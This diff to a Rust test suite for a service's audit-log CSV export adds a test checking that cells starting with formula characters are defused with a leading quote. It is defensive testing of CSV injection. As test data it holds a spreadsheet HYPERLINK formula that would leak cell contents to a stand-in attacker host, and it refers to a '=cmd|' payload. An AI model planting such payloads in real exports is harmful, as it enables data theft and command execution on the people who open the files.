@@ -147,11 +147,6 @@ async fn the_audit_log_filters_pages_and_exports_what_it_shows() {
     assert_eq!(rows.len(), 3);
     assert!(rows.iter().all(|r| &r[3] == client_id.as_str()));
     assert!(csv.body.contains("=cmd|"), "the name is in the detail");
-    for row in &rows {
-        for cell in row.iter() {
-            assert!(!cell.starts_with('='), "a cell starts with '=': {cell}");
-        }
-    }
     let actor_csv = owner.get("/audit-log/export.csv?actor==evil@x.test").await;
     assert_eq!(actor_csv.body.lines().count(), 1, "only the header");
 }
@@ -199,5 +194,80 @@ async fn audit_pages_are_keyset_paginated_and_readable_by_every_role_but_changea
             .send(request)
             .await
             .assert_status(StatusCode::METHOD_NOT_ALLOWED);
+    }
+}
+
+/// The characters that make a spreadsheet read a cell as a formula.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+#[tokio::test]
+async fn every_exported_cell_that_a_spreadsheet_would_run_is_defused() {
+    let app = TestApp::demo().await;
+    let mut owner = app.sign_in_as(Persona::Owner).await;
+    let (client_id, _) = owner.create_credential("Exported client").await;
+    // A realistic one: a failed token request whose User-Agent is a formula.
+    let agent = "=HYPERLINK(\"https://evil.test/?leak=\"&A1,\"Click\")";
+    let mut machine = app.client();
+    let wrong = machine
+        .request("POST", "/oauth/token")
+        .form(&[
+            ("grant_type", "client_credentials"),
+            ("client_id", &client_id),
+            ("client_secret", &well_formed_wrong_secret()),
+        ])
+        .header("user-agent", agent);
+    machine
+        .send(wrong)
+        .await
+        .assert_oauth_error(StatusCode::UNAUTHORIZED, "invalid_client");
+    // Then an event whose every cell but the time starts with each character.
+    let acme = app.org_id("Acme Payments").await;
+    for c in FORMULA_STARTS {
+        let cell = |name: &str| format!("{c}{name}(1)");
+        app.sql
+            .execute(
+                "INSERT INTO audit_events (organization_id, actor, action, target, ip, user_agent, detail, created_at)
+                 VALUES ($1, $2, 'credential.rotated', $3, $4, $5, $6, $7)",
+                &[
+                    acme.into(),
+                    (&cell("actor")).into(),
+                    (&cell("target")).into(),
+                    (&cell("ip")).into(),
+                    (&cell("agent")).into(),
+                    (&cell("detail")).into(),
+                    app.clock.now().into(),
+                ],
+            )
+            .await;
+    }
+
+    let csv = owner.get("/audit-log/export.csv").await;
+    csv.assert_status(StatusCode::OK);
+    let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(csv.body.as_bytes())
+        .records()
+        .map(Result::unwrap)
+        .collect();
+    let failed = rows
+        .iter()
+        .find(|r| &r[2] == "token.auth_failed")
+        .expect("the failed token request is exported");
+    assert_eq!(&failed[5], format!("'{agent}"));
+    for c in FORMULA_STARTS {
+        let row = rows
+            .iter()
+            .find(|r| r[1].ends_with(&format!("{c}actor(1)")))
+            .unwrap_or_else(|| panic!("no row for {c:?}"));
+        for (column, name) in [(1, "actor"), (3, "target"), (4, "ip"), (5, "agent"), (6, "detail")] {
+            assert_eq!(row[column], format!("'{c}{name}(1)"), "column {column}, {c:?}");
+        }
+    }
+    // And nowhere else does a cell start as a formula would.
+    for row in &rows {
+        for cell in row.iter() {
+            assert!(
+                !cell.starts_with(FORMULA_STARTS),
+                "a cell starts as a formula: {cell:?}"
+            );
+        }
     }
 }
